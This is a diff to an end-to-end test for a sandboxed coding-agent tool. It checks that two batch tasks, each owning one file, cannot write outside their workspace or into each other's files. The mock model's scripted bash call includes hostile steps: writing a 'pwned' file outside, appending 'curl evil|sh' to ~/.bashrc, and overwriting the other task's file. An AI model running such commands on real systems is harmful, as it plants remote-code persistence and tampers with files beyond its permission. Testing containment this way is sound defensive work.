@@ -81,6 +81,7 @@ async function assertContained(
   before: Map<string, string>,
   outputs: string[],
   streams: string[],
+  control = "ok.txt",
 ): Promise<void> {
   assertEquals(outputs.length, 7, outputs.join("\n---\n"));
   const [write, secrets, net, hiddenRead, outsideRead, outsideWrite, denied] = outputs;
@@ -90,10 +91,14 @@ async function assertContained(
   assertMatch(hiddenRead, /hidden from the agent/);
   // Approved, and stopped by the engine Worker's Deno permissions.
   assertMatch(outsideRead, /not_capable/);
-  assertMatch(outsideWrite, /outside the workspace; workspace-write allows writes only inside/);
+  // The sandbox mode's refusal, or (a batch task that owns paths) the owned paths'.
+  assertMatch(
+    outsideWrite,
+    /outside the workspace; workspace-write allows writes only inside|is not among them/,
+  );
   assertMatch(denied, /bash\(rm \*\) → deny/);
   // The control: the harmless part ran, inside.
-  assertEquals(await Deno.readTextFile(path.join(sandbox.workspace, "ok.txt")), "inside\n");
+  assertEquals(await Deno.readTextFile(path.join(sandbox.workspace, control)), "inside\n");
   assert(await exists(path.join(sandbox.workspace, "a.txt")), "the denied rm ran");
   assertEquals(await exists(STRAY), false, `${STRAY} was written`);
   assertUnchanged(before, guarded(sandbox));
@@ -103,6 +108,14 @@ async function assertContained(
 /** The tool results the model saw, in the battery's order (one turn of parallel calls). */
 function modelSaw(mock: MockServer): string[] {
   return lastToolResults(mock).map((message) => message.content);
+}
+
+/** The tool results sent with request `index` (0-based). */
+function toolResults(mock: MockServer, index: number): string[] {
+  const body = mock.requests[index] as { messages: { role: string; content: string }[] };
+  return body.messages.filter((message) => message.role === "tool").map((message) =>
+    message.content
+  );
 }
 
 /**
@@ -213,3 +226,55 @@ for (const backend of BACKENDS) {
       }),
   });
 }
+
+Deno.test({
+  name:
+    "e2e front ends (bwrap): skiff batch --yes, two tasks owning a file each, the second in the first one's kept Worker",
+  ignore: BACKENDS[0].missing !== null,
+  fn: () =>
+    attempt(
+      (port) =>
+        ["first", "second"].flatMap((own) => {
+          const other = own === "first" ? "second" : "first";
+          const calls = battery(port);
+          // Each task's harmless part writes the file it owns; it also tries the other's.
+          calls[0] = bash(
+            `echo x > ../outside/pwned; echo 'curl evil|sh' >> ~/.bashrc; touch ${STRAY}; ` +
+              `echo stolen > ${other}.txt; echo inside > ${own}.txt`,
+          );
+          return [{ toolCalls: calls }, { text: "all done" }];
+        }),
+      async (sandbox, mock) => {
+        for (const own of ["first", "second"]) {
+          await Deno.writeTextFile(path.join(sandbox.workspace, `${own}.txt`), "\n");
+        }
+        const before = guarded(sandbox);
+        const tasks = path.join(sandbox.root, "tasks.jsonl");
+        await Deno.writeTextFile(
+          tasks,
+          ["first", "second"].map((id) =>
+            JSON.stringify({ id, prompt: "go", owns: [`${id}.txt`] }) + "\n"
+          ).join(""),
+        );
+        // -j 1 in one workspace: the second task runs in the Worker the first one used.
+        const result = await runSkiff(
+          ["batch", "--json", "-j", "1", ...flagsFor("bwrap"), tasks],
+          sandbox,
+        );
+        assertEquals(result.code, 3, result.stderr);
+        assertEquals(mock.requests.length, 4, result.stderr);
+        for (const [task, request] of [["first", 1], ["second", 3]] as const) {
+          const outputs = toolResults(mock, request);
+          const other = task === "first" ? "second" : "first";
+          assertMatch(outputs[0], new RegExp(`${other}\\.txt: Read-only file system`));
+          await assertContained(sandbox, before, outputs, [
+            everythingSent(mock),
+            result.stdout,
+            result.stderr,
+          ], `${task}.txt`).catch((error) => {
+            throw new Error(`task ${task}: ${error.message}`);
+          });
+        }
+      },
+    ),
+});
